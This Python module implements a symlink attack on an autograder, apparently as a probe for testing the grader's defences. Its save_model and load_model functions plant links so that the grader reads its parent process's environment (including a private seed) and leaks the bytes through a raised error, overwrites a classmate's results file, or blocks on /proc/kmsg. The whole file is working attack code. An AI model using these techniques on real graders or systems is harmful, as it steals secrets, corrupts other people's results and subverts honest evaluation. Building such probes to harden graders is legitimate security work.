"""save_model/load_model that plant links in the working folder for the grader to follow (imported by a
copy of the model solution's utils.py, whose own pair it replaces). attack.json: "mode" and "target".

- read: the saved file is a link to `target` (the grader's environment, a private file); load_model
  reads whatever is there and raises with its bytes, so they would reach the report;
- write: saves honestly, and links the grader's copy destination to `target` (a classmate's results);
- block: the saved files are links to /proc/kmsg (a read that blocks).
"""
import json
import os

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "attack.json")) as f:
    ATTACK = json.load(f)
COPY = "_grader_roundtrip_copy.npz"  # where the grader copies the first file (grader/checks/utilities.py)


def _link(target, path):
    if os.path.lexists(path):
        os.unlink(path)
    os.symlink(target, path)


_SAVED = {}  # path -> params: load_model answers right without the files, so the grader goes on to its copy
_STOLEN = []  # what a read through a link gave, raised by a later call so that it reaches a report


def save_model(params, path):
    mode = ATTACK["mode"]
    _SAVED[path] = params
    if ATTACK.get("target") == "parent-environ":  # the grader's environment, its private seed in it
        ATTACK["target"] = f"/proc/{os.getppid()}/environ"
    if mode == "read" and path.endswith("_a.npz"):  # the file the grader copies
        _link(ATTACK["target"], path)
    elif mode == "read":
        np.savez(path, **params)
    elif mode == "write":
        np.savez(path, **params)
        _link(ATTACK["target"], COPY)
    elif mode == "block":  # a read of /proc/kmsg waits for the next kernel message
        _link("/proc/kmsg", path)


def load_model(path):
    if ATTACK["mode"] == "write":
        with np.load(path) as data:
            return {k: data[k] for k in data.files}
    if _STOLEN:
        raise ValueError(f"LEAKED {_STOLEN!r}")
    if path == COPY:  # the grader made it: if it followed the link, it holds the target's bytes
        with open(path, "rb") as f:
            data = f.read()
        at = data.find(ATTACK.get("pattern", "").encode())  # the part worth raising, within a message's length
        _STOLEN.append(data[max(at, 0):max(at, 0) + 200])
    return _SAVED.get(path.replace(COPY, "_grader_roundtrip_a.npz"))
